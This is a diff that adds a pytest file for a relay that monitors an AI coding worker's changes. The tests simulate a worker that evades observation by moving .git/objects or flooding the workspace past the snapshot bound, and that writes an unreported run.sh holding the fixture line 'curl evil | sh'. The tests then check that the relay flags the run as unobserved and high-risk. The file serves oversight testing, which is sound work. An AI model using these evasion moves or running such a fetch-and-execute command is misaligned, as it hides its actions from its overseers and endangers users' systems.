@@ -1,0 +1,75 @@
+"""A look after the run that the worker made fail, on a run without limits (relay/observe/blind.py).
+
+The party: the worker. Its moves: make git fail after the run (``.git/objects`` moved away: ``bad object HEAD``), or
+flood a workspace outside git past the walk's bound. Broke: the packet read SUCCESS, risk low, with only the files the
+worker chose to report (one flag said the list was its claim). Now the packet says loudly that the change was not
+observed (the first flag, risk high, every file's reason), and lists beside the report what the files' timestamps
+show: the file it did not report is not lost with the look.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import anyio
+import pytest
+
+from conftest import cli_main, make_repo, memory_relay, payload, relay_env
+from fake_agy_harness import install_fake_agy, make_report, success_scenario
+
+pytestmark = pytest.mark.anyio
+
+_REPORT = make_report(summary="Fixed the typo.", files_changed=["a.txt"], tests_passed=0, tests_run=False)
+
+
+async def _run(tmp_path: Path, workspace: Path, edits: list[dict]) -> tuple[dict, dict[str, str]]:
+    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=_REPORT))
+    env = relay_env(tmp_path / "data", agy)
+    async with memory_relay(env) as client:
+        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(workspace)}))
+    return packet, env
+
+
+def _assert_loud(packet: dict) -> None:
+    assert packet["changes"]["risk"] == "high", packet
+    assert packet["flags"][0].startswith("NOT OBSERVED: the relay could not look at the change"), packet["flags"]
+    targets = {t["file"]: t for t in packet["changes"]["review"]}
+    assert "run.sh" in packet["changes"]["files"], packet  # not reported, seen by its timestamp
+    assert targets["run.sh"]["reason"].startswith("the relay could not observe the change: changed during the run")
+    assert targets["a.txt"]["reason"].startswith("the relay could not observe the change"), targets
+    assert any("not in the worker's report" in f for f in packet["flags"]), packet["flags"]
+
+
+async def test_a_worker_that_breaks_git_after_its_edits_gets_a_loud_unobserved_packet_in_every_door(tmp_path):
+    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "b.txt": "b\n"})
+    edits = [{"op": "write", "path": "a.txt", "content": "a fixed\n"},
+             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"},
+             {"op": "delete", "path": "b.txt"},
+             {"op": "rename", "path": ".git/objects", "to": ".git/objects-away"}]
+    packet, env = await _run(tmp_path, repo, edits)
+    assert not (repo / ".git/objects").exists()  # the move happened: the test is not vacuous
+    _assert_loud(packet)
+    assert "b.txt" in packet["changes"]["files"], packet  # gone since the run started: the before index says it
+    assert "b.txt, run.sh" in packet["flags"][1], packet["flags"]
+    full = await anyio.to_thread.run_sync(cli_main, ["runs", "show", packet["run_id"], "--detail", "full"], env)
+    assert "NOT OBSERVED" in full.stdout and "run.sh" in full.stdout, full.stdout
+    async with memory_relay(env) as client:
+        summary = payload(await client.call_tool("antigravity_get_result", {"run_id": packet["run_id"]}))
+    assert json.dumps(summary).count("NOT OBSERVED") >= 1 and summary["changes"]["risk"] == "high", summary
+
+
+async def test_a_worker_that_floods_a_workspace_outside_git_past_the_walk_gets_a_loud_unobserved_packet(tmp_path,
+                                                                                                        monkeypatch):
+    import relay.observe.snapshot as snapshot
+
+    monkeypatch.setattr(snapshot, "TREE_MAX_FILES", 30)  # the bound (50,000), lowered: the same move, smaller
+    workspace = tmp_path / "plain"
+    workspace.mkdir()
+    (workspace / "a.txt").write_text("a\n", encoding="utf-8")
+    edits = [{"op": "write", "path": "a.txt", "content": "a fixed\n"},
+             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"},
+             *({"op": "write", "path": f"gen/f{i}.txt", "content": f"{i}\n"} for i in range(40))]
+    packet, _ = await _run(tmp_path, workspace, edits)
+    _assert_loud(packet)
+    assert packet["changes"]["count"] >= 42, packet
